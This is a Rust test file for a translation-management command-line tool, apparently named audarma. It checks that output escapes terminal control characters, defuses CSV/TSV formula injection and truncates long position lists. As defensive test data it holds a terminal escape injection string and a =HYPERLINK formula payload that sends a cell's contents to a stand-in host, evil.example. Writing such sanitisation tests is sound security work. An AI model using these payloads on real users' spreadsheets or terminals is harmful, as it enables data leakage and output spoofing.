//! Issue 14, "terminal injection", "CSV formula injection" and "a sentence
//! with 200,000 repetitions": whatever a database holds (names, users,
//! comments, translations, sources, memory units) or a user types, no command
//! prints a raw ESC, BEL, C1 control or bidi override; CSV and TSV cells a
//! spreadsheet would run start with `'`; a list of positions in a message is
//! cut after ten.
// Plants what an older database could hold (a raw connection).
#![allow(clippy::disallowed_types)]

use crate::hostile_support::audarma;

const INJECTED: &str = "\u{1b}[2J\u{7}\u{9b}31m\u{202e}";

fn assert_no_raw_controls(what: &str, out: &std::process::Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        for c in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
            assert!(
                !text.contains(c),
                "{what}: raw U+{:04X} on {stream}:\n{text}",
                c as u32
            );
        }
    }
}

#[test]
fn no_command_prints_a_raw_control_character() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    audarma(d).arg("init").assert().success();
    std::fs::write(
        d.join("a.txt"),
        "Бірінші сөйлем мұнда. Екінші сөйлем мұнда. Үшінші сөйлем мұнда.\n",
    )
    .unwrap();
    audarma(d).args(["import", "a.txt"]).assert().success();
    for (pos, text) in [
        ("1", "First one."),
        ("1", "First sentence here."),
        ("2", "Second."),
    ] {
        audarma(d)
            .args(["set", "a", pos, "--to", "en", "--text", text])
            .assert()
            .success();
    }
    audarma(d)
        .args(["reject", "a", "2", "--to", "en", "--comment", "wrong"])
        .assert()
        .success();
    audarma(d)
        .args(["translate", "a", "--to", "en", "--only", "all"])
        .write_stdin(":c a note\n:q\n")
        .assert()
        .success();
    // What an older database, or a TMX from elsewhere, could hold.
    let conn = rusqlite::Connection::open(d.join("t.db")).unwrap();
    let x = INJECTED;
    conn.execute_batch(&format!(
        "UPDATE documents SET name = name || '{x}';
         UPDATE segments SET source = source || '{x}' WHERE position = 3;
         UPDATE translations SET text = text || '{x}', author = author || '{x}', translator = translator || '{x}';
         UPDATE translation_history SET text = text || '{x}', author = author || '{x}', translator = translator || '{x}';
         UPDATE review_events SET actor = actor || '{x}', comment = comment || '{x}' WHERE comment IS NOT NULL;
         UPDATE tm_variants SET plain = plain || '{x}', seg_xml = NULL;
         UPDATE tm_units SET created_by = created_by || '{x}', origin = origin || '{x}';"
    ))
    .unwrap();
    drop(conn);
    std::fs::write(d.join("s.txt"), format!("Сөйлем{x} бар.\n")).unwrap();
    let doc = "#1";
    let runs: Vec<(Vec<&str>, &str)> = vec![
        (vec!["docs"], ""),
        (vec!["segments", doc], ""),
        (vec!["get", doc, "1", "--to", "en"], ""),
        (vec!["get", doc, "2", "--to", "en"], ""),
        (vec!["history", doc, "1", "--to", "en"], ""),
        (
            vec![
                "suggest",
                "Бірінші сөйлем мұнда.",
                "--to",
                "en",
                "--explain",
            ],
            "",
        ),
        (
            vec!["suggest", "--to", "en"],
            "Бірінші сөйлем мұнда\u{1b}[2J.\n",
        ),
        (vec!["concordance", "сөйлем", "--to", "en"], ""),
        (vec!["analyze", doc, "--to", "en", "--segments"], ""),
        (vec!["progress", "--by", "doc"], ""),
        (vec!["progress", "--by", "translator"], ""),
        (vec!["progress", "--by", "person"], ""),
        (vec!["progress", "--by", "translator", "--csv"], ""),
        (
            vec!["review", doc, "--to", "en", "--only", "all"],
            "s\ns\ns\n",
        ),
        (
            vec!["translate", doc, "--to", "en", "--only", "all"],
            "\n:q\n",
        ),
        (vec!["pretranslate", doc, "--to", "en"], ""),
        (vec!["approve", doc, "1-3", "--to", "en"], ""),
        (vec!["export", doc, "--to", "en", "out.txt"], ""),
        (vec!["tmx", "export", "m.tmx"], ""),
        (vec!["segment", "s.txt"], ""),
        (vec!["get", "\u{1b}[2Jnope", "1", "--to", "en"], ""),
        (vec!["get", doc, "1", "--to", "\u{1b}[2J"], ""),
        (vec!["import", "s.txt"], ""),
        (vec!["docs", "rename", doc, "b\u{1b}[2J"], ""),
    ];
    for (args, stdin) in runs {
        let out = audarma(d).args(&args).write_stdin(stdin).output().unwrap();
        assert_no_raw_controls(&args.join(" "), &out);
    }
    // The HTML report (with inline SVG) holds none either.
    let out = audarma(d).args(["report", "r.html"]).output().unwrap();
    assert_no_raw_controls("report", &out);
    let page = std::fs::read_to_string(d.join("r.html")).unwrap();
    let bad = page
        .chars()
        .find(|&c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'));
    assert_eq!(bad, None, "a raw control character in the report");
    // The escaped forms are there to see.
    let out = audarma(d).arg("docs").output().unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("a␛[2J␇\\u{9b}31m\\u{202e}"));
}

#[test]
fn csv_and_tsv_cells_never_start_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    audarma(d).arg("init").assert().success();
    std::fs::write(d.join("a.txt"), "Бірінші сөйлем. Екінші сөйлем.\n").unwrap();
    audarma(d).args(["import", "a.txt"]).assert().success();
    let user = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    audarma(d)
        .args([
            "set", "a", "1", "--to", "en", "--text", "One.", "--user", user,
        ])
        .assert()
        .success();
    audarma(d)
        .args([
            "set", "a", "2", "--to", "en", "--text", "Two.", "--user", "@cmd",
        ])
        .assert()
        .success();
    let out = audarma(d)
        .args(["progress", "--by", "translator", "--csv"])
        .output()
        .unwrap();
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
        "{csv}"
    );
    assert!(csv.contains("\n'@cmd,"), "{csv}");
    for line in csv.lines() {
        let first = line.trim_start_matches('"');
        assert!(!first.starts_with(['=', '+', '-', '@']), "{line}");
    }

    // The alignment review file: written defused, read back exactly.
    std::fs::write(d.join("b.txt"), "Бір сөйлем.\n").unwrap();
    std::fs::write(d.join("b.en.txt"), "-1 is a number.\n").unwrap();
    audarma(d)
        .args(["align", "b.txt", "b.en.txt", "--to", "en", "--tsv", "r.tsv"])
        .assert()
        .success();
    let tsv = std::fs::read_to_string(d.join("r.tsv")).unwrap();
    assert!(tsv.contains("\t'-1 is a number."), "{tsv}");
    audarma(d)
        .args([
            "align", "b.txt", "b.en.txt", "--to", "en", "--apply", "r.tsv",
        ])
        .assert()
        .success();
    let got = audarma(d)
        .args(["get", "b", "1", "--to", "en", "--json"])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&got.stdout).unwrap();
    assert_eq!(v["translation"]["text"], "-1 is a number.");
}

#[test]
fn a_message_lists_the_first_positions_and_counts_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    audarma(d).arg("init").assert().success();
    std::fs::write(d.join("r.txt"), "Сәлем, әлем. ".repeat(2_000) + "\n").unwrap();
    audarma(d).args(["import", "r.txt"]).assert().success();
    let out = audarma(d)
        .args(["set", "r", "1", "--to", "en", "--text", "Hello, world."])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("1999 repetition(s) with the same translation: positions 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 and 1,989 more"),
        "{text}"
    );
    assert!(text.len() < 300, "{} bytes", text.len());
    // The same in the piped session and in approve.
    let out = audarma(d)
        .args(["approve", "r", "all", "--to", "en", "--yes"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("10 and 1,990 more"), "{text}");
    assert!(text.len() < 300, "{} bytes", text.len());
}
